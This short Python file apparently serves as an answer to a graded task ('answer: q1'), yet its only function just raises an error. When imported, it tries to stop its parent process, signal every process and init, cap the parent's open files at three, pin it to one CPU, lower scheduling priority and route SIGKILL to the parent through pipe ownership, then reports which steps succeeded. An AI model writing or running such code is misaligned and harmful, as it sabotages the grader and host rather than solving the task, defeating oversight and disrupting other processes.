# Stops, limits, slows or owns the process that forked it, its group, and everybody.
# answer: q1
import fcntl, os, resource, signal
touched = []
for name, call, *words in (
    ("parent", os.kill, os.getppid(), signal.SIGSTOP),
    ("all", os.kill, -1, signal.SIGCONT),
    ("group", os.kill, 0, signal.SIGCONT),
    ("first", os.kill, 1, signal.SIGCONT),
    ("session", os.setsid),
    ("own group", os.setpgid, 0, 0),
    ("limits", resource.prlimit, os.getppid(), resource.RLIMIT_NOFILE, (3, 3)),
    ("processors", os.sched_setaffinity, os.getppid(), {0}),
    ("priority", os.setpriority, os.PRIO_USER, 0, 19),
    ("owner of a pipe", fcntl.fcntl, os.pipe()[0], fcntl.F_SETOWN, os.getppid()),
    ("its signal", fcntl.fcntl, os.pipe()[0], 10, signal.SIGKILL),
):
    try:
        call(*words)
        touched.append(name)
    except OSError:
        pass

def hinge(x, knot=0.0, side=1):
    raise ValueError(f"others touched: {touched}")
